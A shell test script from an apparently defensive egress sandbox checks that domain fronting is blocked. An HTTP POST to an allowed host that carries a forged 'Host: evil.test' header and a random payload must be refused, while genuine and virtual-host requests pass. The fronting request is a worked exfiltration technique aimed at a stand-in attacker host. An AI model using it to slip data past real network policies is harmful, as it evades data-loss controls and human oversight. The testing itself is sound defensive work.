#!/bin/sh
# 368-domain-fronting: the Host header (HTTP/2 :authority) is a
# destination (branch redteam-egress). A CDN serves many sites on one
# address and routes by the Host header, so a connection to an allowed
# name carrying "Host: evil.test" reached evil.test's origin (here
# front_srv.py logs the site it would forward to): an encrypted payload no
# detector reads went to a host the policy never allowed. The HTTP glue now
# judges a Host or :authority that names another host than the
# connection's, as a connect to it would be, when the connection was
# allowed by its name; allowed names pass, and so does any Host header to
# a server allowed by an address rule (the user's own, virtual hosts).
. "$(dirname "$0")/lib.sh"
dns_sandbox
need_relay

start_server front_srv.py 10.99.0.1 front
J="--no-default-policy --relay --allow *.allowed.test --log $T/events.jsonl"
BLOB=$(head -c 48 /dev/urandom | od -An -tx1 | tr -d ' \n')   # "encrypted": no detector
post() { # HOSTHEADER BODY: python3 http.client to far.allowed.test (10.99.0.1)
	timeout 20 "$DLPJAIL" $J -- python3 -c '
import http.client, sys
c = http.client.HTTPConnection("far.allowed.test", int(sys.argv[1]), timeout=5)
c.putrequest("POST", "/drop", skip_host=True)
c.putheader("Host", sys.argv[2])
c.putheader("Content-Length", str(len(sys.argv[3])))
c.endheaders(sys.argv[3].encode())
print(c.getresponse().status)' "$front_PORT" "$1" "$2" > "$T/post.out" 2>&1
}
post evil.test "d=$BLOB"
sed 's/^/# fronted: /' "$T/post.out"
check "Host: evil.test on a connection to far.allowed.test: never reaches the front" \
	sh -c "! grep -q 'HOST evil.test' '$front_LOG'"
check "...refused with an event naming domain fronting" event_has '"verdict":"deny"' 'domain fronting'
post "evil.test:$front_PORT" "d=$BLOB"
check "...with a port too" sh -c "! grep -q 'HOST evil.test' '$front_LOG'"
post "far.allowed.test:$front_PORT" "d=clean-368"
check "the connection's own name passes" grep -q "HOST far.allowed.test.* d=clean-368" "$front_LOG"
post "api.allowed.test" "d=clean-368-other"
check "another allowed name passes" grep -q "HOST api.allowed.test.* d=clean-368-other" "$front_LOG"
timeout 20 "$DLPJAIL" $J -- curl -sS "http://far.allowed.test:$front_PORT/curl-368" > "$T/curl.out" 2>&1
check "curl with its own Host header passes" grep -q "curl-368" "$front_LOG"
# a server allowed by its address is the user's own choice: its virtual
# hosts (Host: vhost.example on a local server) are not fronting
J="--no-default-policy --relay --allow *.allowed.test --allow 10.99.0.1"
post vhost.example "d=clean-368-vhost"
check "an address-allowed server takes any Host header" grep -q "HOST vhost.example.* d=clean-368-vhost" "$front_LOG"
finish
